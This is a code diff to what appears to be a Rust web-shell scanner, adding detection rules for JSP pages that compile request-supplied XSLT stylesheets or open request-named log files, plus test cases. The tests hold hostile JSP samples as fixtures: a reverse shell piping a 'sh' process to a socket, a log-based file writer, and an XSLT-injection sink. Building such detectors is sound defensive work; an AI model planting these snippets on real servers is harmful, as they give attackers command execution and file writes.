@@ -110,6 +110,16 @@ const JSP_INPUT: &[&str] = &[
 
 const JSP_SINKS: &[Sink] = &[
     Sink {
+        // Xalan runs Java from a stylesheet's extension functions.
+        marks: &["newtransformer(", "newtemplates("],
+        file_needs: &[],
+        id: "scan.heuristic.jsp_xslt",
+        severity: Severity::High,
+        title: "JSP compiles an XSLT stylesheet from the request",
+        why: "compiles it as an XSLT stylesheet: a stylesheet's extension functions run Java code and commands",
+        bare: false,
+    },
+    Sink {
         marks: &[
             "new file(",
             "io.file(",
@@ -156,6 +166,8 @@ const JSP_SINKS: &[Sink] = &[
             "randomaccessfile(",
             "printwriter(new file",
             "files.write(",
+            // java.util.logging: a log file the request names, a log line it fills.
+            "filehandler(",
         ],
         file_needs: &[],
         id: "scan.heuristic.jsp_write",
@@ -463,7 +475,11 @@ fn assignment(s: &str) -> Option<(&str, &str)> {
     let eq = s.char_indices().find(|&(i, c)| {
         c == '=' && !s[i + 1..].starts_with('=') && !s[..i].ends_with(['=', '!', '<', '>'])
     })?;
-    let lhs = s[..eq.0].trim_end();
+    // Compound assignments (`x += line`, `x &= y`) carry what they add.
+    let lhs = s[..eq.0]
+        .trim_end()
+        .trim_end_matches(['+', '&', '|', '.'])
+        .trim_end();
     let name_start = lhs
         .char_indices()
         .rev()
@@ -908,5 +924,11 @@ mod tests {
         assert!(ids(jsp, under_root).is_empty());
         let reverse = "Socket s = new java.net.Socket(host, port);\nProcess p = Runtime.getRuntime().exec(\"sh\");\ncopy(p.getInputStream(), s.getOutputStream());";
         assert_eq!(ids(jsp, reverse), ["scan.heuristic.jsp_reverse_shell"]);
+        let log = "<%java.util.logging.FileHandler h=new java.util.logging.FileHandler(pageContext.getServletContext().getRealPath(\"/\")+request.getParameter(\"f\"),true);l.info(request.getParameter(\"t\"));%>";
+        assert_eq!(ids(jsp, log), ["scan.heuristic.jsp_write"]);
+        let xslt = "<% BufferedReader br = request.getReader();\nString line, whole = \"\";\nwhile ((line = br.readLine()) != null) { whole += line; }\nInputStream in = new ByteArrayInputStream(whole.getBytes());\nTransformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(in)); %>";
+        assert_eq!(ids(jsp, xslt), ["scan.heuristic.jsp_xslt"]);
+        let report = "<% Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(application.getResourceAsStream(\"/report.xsl\")));\nt.setParameter(\"id\", request.getParameter(\"id\")); %>";
+        assert!(ids(jsp, report).is_empty());
     }
 }
